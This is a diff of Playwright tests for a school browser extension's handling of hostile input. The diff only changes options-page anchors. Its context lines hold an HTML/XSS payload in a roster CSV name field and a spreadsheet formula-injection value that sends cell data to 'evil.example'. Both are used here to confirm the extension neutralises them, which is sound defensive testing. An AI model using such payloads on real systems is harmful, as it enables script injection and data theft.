@@ -107,7 +107,7 @@ test.describe('fault: a hostile page', () => {
   });
 
   test('a pupil whose name in the roster is HTML is shown as text, never run, in the warning and in "Check a name"', async ({ context, openExtensionPage }) => {
-    const options = await openExtensionPage('options.html');
+    const options = await openExtensionPage('options.html#school');
     const roster = 'first_name,last_name,preferred_name,role,year_group\nEleanor,Smith,"<img src=x onerror=""window.top.__pwned=1"">",pupil,Year 9\n';
     await options.getByLabel('Import roster file').setInputFiles({ name: 'roster.csv', mimeType: 'text/csv', buffer: Buffer.from(roster) });
     await options.getByText('The roster was imported').waitFor();
@@ -133,7 +133,7 @@ test.describe('fault: a hostile page', () => {
     await frame.getByLabel('Why is this allowed?').fill('=HYPERLINK("https://evil.example/?"&A1,"Open")');
     await choose(frame, 'Go ahead and keep my reason');
     await expect.poll(() => siteActions(page)).toHaveLength(1);
-    const options = await openExtensionPage('options.html');
+    const options = await openExtensionPage('options.html#you');
     const log = options.getByRole('region', { name: 'Your log' });
     await expect(log).toContainText('=HYPERLINK(');
     const [download] = await Promise.all([options.waitForEvent('download'), log.getByRole('button', { name: 'Export log (CSV)' }).click()]);
